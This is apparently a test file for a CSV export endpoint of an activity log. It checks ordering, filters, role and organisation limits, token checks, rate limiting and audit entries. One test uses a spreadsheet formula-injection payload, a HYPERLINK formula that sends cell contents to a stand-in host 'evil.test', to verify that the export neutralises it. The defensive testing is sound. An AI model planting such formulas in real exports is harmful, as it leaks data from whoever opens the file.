import { parse } from 'csv-parse/sync';
import { runAs } from '../../test/fresh-database';
import { type DemoName, type ServedDemo, serveDemo } from '../../test/serve-backend';

let served: ServedDemo;
beforeAll(async () => {
  served = await serveDemo({ LIMIT_FACTOR: '2' });
});
afterAll(() => served.close());

type Row = Record<string, string>;

function take(username: DemoName, filter: Record<string, string> = {}): Promise<Response> {
  const { token } = served.as(username);
  const query = new URLSearchParams({ ...filter, accessusername: username });
  return fetch(`${served.address}/api/activity-log/export?${query}`, { headers: { authorization: token } });
}
async function rowsOf(response: Response): Promise<Row[]> {
  const bytes = Buffer.from(await response.arrayBuffer());
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  return parse(bytes, { bom: true, columns: true });
}
const entries = (username: DemoName, body: object) =>
  served.as(username).post('/api/activity-log/list', { ...body, pageSize: 200 });

describe('activity-log/export', () => {
  it('contains all pages of the log in their order', async () => {
    const { body } = await entries('admin@demo.test', {});
    const response = await take('admin@demo.test');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="system-logs.csv"');
    const ids = (await rowsOf(response)).map(({ Entry }) => Entry);
    // The export's own entry comes first.
    expect(ids).toHaveLength(Number(body.totalLength) + 1);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.slice(1, 201)).toEqual((body.data as { id: string }[]).map(({ id }) => id));
    expect(ids.length).toBeGreaterThan(1_000);
  });

  it('uses the same filters as the list', async () => {
    const rows = await rowsOf(await take('admin@demo.test', { kind: 'law', action: 'Published' }));
    const { body } = await entries('admin@demo.test', { kind: 'law', action: 'Published' });
    expect(rows.map(({ Entry }) => Entry)).toEqual((body.data as { id: string }[]).map(({ id }) => id));
    expect(new Set(rows.map(({ Kind, Action }) => `${Kind} ${Action}`))).toEqual(new Set(['Law Published']));
  });

  it('neutralises a formula in a name', async () => {
    const topic = '=HYPERLINK("http://evil.test?"&A1,"see")';
    await served.as('editor@demo.test').post('/api/circular/add', { topic, link: 'https://x.test' });
    const [row] = await rowsOf(await take('admin@demo.test', { kind: 'circular', user: 'editor' }));
    expect(row).toMatchObject({ Name: `'${topic}`, Address: '127.0.0.1', Program: 'node' });
  });

  it('contains for a user who is no administrator only their own part', async () => {
    const rows = await rowsOf(await take('viewer@demo.test', { user: 'admin' }));
    expect(rows).toEqual([]);
    const own = await rowsOf(await take('viewer@demo.test'));
    expect(new Set(own.map(({ User }) => User))).toEqual(new Set(['viewer@demo.test']));
  });

  it('contains nothing of another organisation', async () => {
    const rows = await rowsOf(await take('admin@other.test'));
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.filter(({ User }) => User?.endsWith('@demo.test'))).toEqual([]);
  });

  it('needs the token: a link with only the cookie is refused', async () => {
    const response = await fetch(`${served.address}/api/activity-log/export`);
    expect(response.status).toBe(401);
  });

  it.each<Record<string, string>>([
    { from: 'yesterday' },
    { userId: 'x' },
    { user: 'x'.repeat(400) },
    { usr: 'editor' },
  ])('refuses %j', async (filter) => {
    const response = await take('viewer@demo.test', filter);
    expect([response.status, response.headers.get('content-type')]).toEqual([
      422,
      'application/json; charset=utf-8',
    ]);
  });

  it('has an entry in the log, and is limited to ten in ten minutes at twice the usual limits', async () => {
    const statuses: number[] = [];
    for (let nth = 0; nth < 10; nth += 1) {
      const response = await take('admin@other.test');
      await response.text();
      statuses.push(response.status);
    }
    expect(statuses).toEqual([...Array.from({ length: 9 }, () => 200), 429]);
    const noted = await runAs(
      served.database.admin,
      "select 1 from journal where org_id = 2 and action = 'Log exported' and ip is not null",
    );
    expect(noted).toHaveLength(10);
  });
});
